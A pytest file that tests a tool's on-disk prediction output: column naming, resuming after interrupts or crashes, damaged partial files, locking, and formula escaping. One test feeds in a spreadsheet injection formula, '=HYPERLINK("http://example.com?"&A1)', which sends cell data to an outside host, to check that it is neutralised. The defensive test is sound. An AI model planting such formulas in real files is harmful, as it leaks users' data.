"""A table's answers on disk: the columns, and what is left and gone on with after Ctrl-C, a crash or a change."""

from __future__ import annotations

import csv
import json
import os
import signal
import subprocess
import sys
from collections.abc import Callable
from dataclasses import replace
from pathlib import Path

import pytest
import torch

from studio.data.readers import read_table
from studio.data.table import ReadOptions
from studio.errors import StorageError, TableError
from studio.inference.answer_file import WINDOW_ROWS, headers, predict_table
from studio.inference.predictor import Predictor
from studio.models.prompted import PromptedModel
from tests.verdicts import write_verdict_adapter

ROWS, WINDOW = 22, 8


def _broken_off(_done: int, _total: int) -> None:
    raise KeyboardInterrupt


@pytest.fixture(scope="module")
def predictors(tiny_model: Path, tmp_path_factory: pytest.TempPathFactory) -> list[Predictor]:
    """Two that choose a label, of different random vectors."""
    folders = [tmp_path_factory.mktemp("adapters") / "verdict" for _ in range(2)]
    return [Predictor.open(write_verdict_adapter(folder, tiny_model, seed=seed)) for seed, folder in enumerate(folders)]


@pytest.fixture
def write(tmp_path: Path, predictors: list[Predictor]) -> Callable[..., list[str]]:
    """Answers the table into out.csv, or stops after so many rows. What was said, and the rows that were answered."""
    (tmp_path / "in.csv").write_text(
        "review,number\n" + "".join(f"the film was {'very ' * (n * 7 % 5)}good,{n}\n" for n in range(ROWS)),
        encoding="utf-8",
    )

    def run(
        out: str = "out.csv", *, stop: int = ROWS, by: int = 0, stopped: Callable[[int, int], None] = _broken_off
    ) -> list[str]:
        said: list[str] = []

        def progress(done: int, total: int) -> None:
            assert total == ROWS
            said.append(f"at {done}")
            if done >= stop:
                stopped(done, total)

        predict_table(
            {"": predictors[by]},
            read_table(tmp_path / "in.csv"),
            tmp_path / out,
            progress=progress,
            say=said.append,
            window_rows=WINDOW,
        )
        return said

    return run


@pytest.fixture
def broken(tmp_path: Path, write: Callable[..., list[str]]) -> Path:
    """What is left where the third window was not finished."""
    with pytest.raises(KeyboardInterrupt):
        write(stop=2 * WINDOW)
    assert not (tmp_path / "out.csv").exists()
    return tmp_path / "out.csv.part"


def _same(folder: Path, write: Callable[..., list[str]], by: int = 0) -> bool:
    """Whether out.csv is that of a run that was never stopped, and nothing lies beside it."""
    write("whole.csv", by=by)
    assert not list(folder.glob("*.part*"))
    return (folder / "out.csv").read_bytes() == (folder / "whole.csv").read_bytes()


def test_rows_keep_their_order_and_columns(tmp_path: Path, write: Callable[..., list[str]]) -> None:
    write()
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        rows = list(csv.DictReader(file))
    assert list(rows[0]) == ["review", "number", "prediction", "probability"]
    assert [row["number"] for row in rows] == [str(number) for number in range(ROWS)]
    assert len({row["probability"] for row in rows}) == 5


def test_what_is_broken_off_is_gone_on_with_behind_the_last_whole_window(
    tmp_path: Path, broken: Path, write: Callable[..., list[str]]
) -> None:
    said = write()
    assert said[0] == f"{broken}: 16 rows are answered already; going on behind them."
    assert said[1] == "at 16"
    assert _same(tmp_path, write)


@pytest.mark.skipif(not hasattr(os, "fork"), reason="forks")
def test_a_killed_process_loses_no_whole_window(tmp_path: Path, write: Callable[..., list[str]]) -> None:
    child = os.fork()
    if not child:
        torch.set_num_threads(1)
        write(stop=WINDOW, stopped=lambda *_: os.kill(os.getpid(), signal.SIGKILL))
        os._exit(1)
    assert os.WTERMSIG(os.waitpid(child, 0)[1]) == signal.SIGKILL
    assert "8 rows are answered already" in write()[0]
    assert _same(tmp_path, write)


def test_a_line_that_was_being_written_is_written_again(
    tmp_path: Path, broken: Path, write: Callable[..., list[str]]
) -> None:
    with broken.open("ab") as file:
        file.write(b'the film was "half a')
    assert "16 rows are answered already" in write()[0]
    assert _same(tmp_path, write)


def test_another_adapter_answers_anew(tmp_path: Path, broken: Path, write: Callable[..., list[str]]) -> None:
    said = write(by=1)
    assert said[:2] == [f"{broken}: belongs to other adapters, so every row is answered anew.", "at 0"]
    assert _same(tmp_path, write, by=1)


def test_another_table_is_answered_anew(tmp_path: Path, broken: Path, write: Callable[..., list[str]]) -> None:
    (tmp_path / "in.csv").write_text((tmp_path / "in.csv").read_text(encoding="utf-8").replace(",3", ",33"), "utf-8")
    assert write()[:2] == [f"{broken}: belongs to another table, so every row is answered anew.", "at 0"]
    assert _same(tmp_path, write)


def test_the_same_adapter_on_weights_in_fewer_bits_answers_anew(
    broken: Path, write: Callable[..., list[str]], predictors: list[Predictor]
) -> None:
    one = predictors[0]
    coarse = PromptedModel(replace(one.model.base, quantization="4bit"))
    predictors[0] = replace(one, model=coarse)
    try:
        said = write()
    finally:
        predictors[0] = one
    assert said[:2] == [f"{broken}: belongs to other adapters, so every row is answered anew.", "at 0"]


def test_adapters_that_know_a_column_by_other_names_answer_the_same_rows(
    tmp_path: Path, tiny_model: Path, predictors: list[Predictor]
) -> None:
    (tmp_path / "bare.csv").write_text("".join(f"the film was {'very ' * (n * 7 % 5)}good,{n}\n" for n in range(ROWS)))
    read = {"header": False, "columns": ["words", "number"]}
    other = Predictor.open(write_verdict_adapter(tmp_path / "other", tiny_model, seed=1, column="words", **read))
    table = read_table(tmp_path / "bare.csv", ReadOptions(header=False, columns=("review", "number")))
    asked = {"one": predictors[0], "other": other}
    predict_table(asked, table, tmp_path / "windows.csv", window_rows=WINDOW)
    predict_table(asked, table, tmp_path / "at once.csv", window_rows=ROWS)
    assert (tmp_path / "windows.csv").read_bytes() == (tmp_path / "at once.csv").read_bytes()


def test_adapters_that_read_other_rows_of_a_file_are_not_asked_together(
    tmp_path: Path, tiny_model: Path, predictors: list[Predictor]
) -> None:
    (tmp_path / "headed.csv").write_text("review,number\ngood,1\nbad,2\n")
    read = {"header": False, "columns": ["words", "number"]}
    other = Predictor.open(write_verdict_adapter(tmp_path / "other", tiny_model, column="words", **read))
    with pytest.raises(TableError, match="Let each of them answer alone"):
        predict_table({"one": predictors[0], "other": other}, read_table(tmp_path / "headed.csv"), tmp_path / "out.csv")


@pytest.mark.parametrize("damage", ["torn", "gone", "short"])
def test_a_part_that_cannot_be_trusted_is_written_anew(
    tmp_path: Path, broken: Path, write: Callable[..., list[str]], damage: str
) -> None:
    aside = broken.with_name("out.csv.part.json")
    match damage:
        case "torn":
            aside.write_text(json.dumps(json.loads(aside.read_text(encoding="utf-8")))[:-9], encoding="utf-8")
        case "gone":
            aside.unlink()
        case "short":
            os.truncate(broken, 100)
    said = write()
    assert said[0].endswith("so every row is answered anew.")
    assert said[1] == "at 0"
    assert _same(tmp_path, write)


def test_two_programs_do_not_write_one_file(tmp_path: Path, write: Callable[..., list[str]]) -> None:
    part = tmp_path / "out.csv.part.lock"
    code = (
        "import sys; sys.path.insert(0, sys.argv[1])\n"
        "from pathlib import Path\nfrom studio.files import only_one\n"
        "with only_one(Path(sys.argv[2]), 'busy'):\n    print('here', flush=True)\n    sys.stdin.readline()\n"
    )
    command = [sys.executable, "-c", code, str(Path(__file__).parents[2]), str(part)]
    other = subprocess.Popen(command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, text=True)
    assert other.stdout is not None
    assert other.stdout.readline() == "here\n"
    with pytest.raises(StorageError, match=r"out\.csv is being written by another program\. Wait for it"):
        write()
    other.kill()  # the system lets go of what it held; the file stays, and is nobody's
    other.communicate()
    write()
    assert sorted(os.listdir(tmp_path)) == ["in.csv", "out.csv"]


def test_what_a_spreadsheet_would_compute_is_text(tmp_path: Path, predictors: list[Predictor]) -> None:
    formula = '=HYPERLINK("http://example.com?"&A1)'
    with (tmp_path / "in.csv").open("w", encoding="utf-8", newline="") as file:
        csv.writer(file).writerows([["review", "+number"], [formula, "-0.5"], ["- good", "@x"]])
    predict_table({"": predictors[0]}, read_table(tmp_path / "in.csv"), tmp_path / "out.csv")
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as file:
        rows = [row[:2] for row in csv.reader(file)]
    assert rows == [["review", "'+number"], [f"'{formula}", "-0.5"], ["'- good", "'@x"]]


def test_nothing_is_left_where_no_window_was_finished(tmp_path: Path, write: Callable[..., list[str]]) -> None:
    with pytest.raises(KeyboardInterrupt):
        write(stop=0)
    assert [path.name for path in tmp_path.iterdir()] == ["in.csv"]


@pytest.mark.parametrize(
    ("columns", "names", "new"),
    [
        ("text,label", ("",), ["prediction", "probability"]),
        ("text,prediction", ("",), ["prediction 2", "probability 2"]),
        ("probability,prediction 2", ("",), ["prediction 3", "probability 3"]),
        ("text,b prediction", ("a", "b"), ["a prediction", "a probability", "b prediction 2", "b probability 2"]),
        ("text,label", ("a", "a 2"), ["a prediction", "a probability", "a 2 prediction", "a 2 probability"]),
    ],
)
def test_a_new_column_never_bears_a_name_that_is_taken(columns: str, names: tuple[str, ...], new: list[str]) -> None:
    both = ("prediction", "probability")
    assert headers(columns.split(","), dict.fromkeys(names, both)) == [*columns.split(","), *new]
    alone = headers(columns.split(","), dict.fromkeys(names, both[:1]))
    assert len(set(alone)) == len(alone) == len(columns.split(",")) + len(names)


def test_how_many_rows_are_written_at_once_is_said_where_going_on_is_promised() -> None:
    root = Path(__file__).resolve().parents[2]
    for page in ("README.md", "studio/adapter_commands.py"):
        assert f"{WINDOW_ROWS:,}" in (root / page).read_text(encoding="utf-8")
